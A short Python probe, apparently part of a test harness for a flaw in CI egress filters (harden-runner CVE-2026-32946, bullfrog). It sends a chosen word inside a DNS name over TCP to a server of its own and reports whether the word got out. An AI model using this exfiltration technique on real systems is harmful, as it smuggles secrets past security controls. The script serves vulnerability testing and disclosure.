"""A question to a DNS server of its own, over TCP, with the word as a name
(harden-runner CVE-2026-32946, bullfrog)."""
from way import *


def question():
    label = bytes([len(WORD)]) + WORD
    return struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0) + label + b"\x07example\x03com\0\0\x01\0\x01"


def way():
    stream = socket.create_connection((HOST, PORT))
    stream.settimeout(PATIENCE)
    body = question()
    stream.sendall(struct.pack("!H", len(body)) + body)
    answer = stream.recv(512)
    if answer == b"seen":
        return "out"
    return f"rcode {answer[5] & 15}" if len(answer) > 5 else f"answer {answer!r}"


told(way)
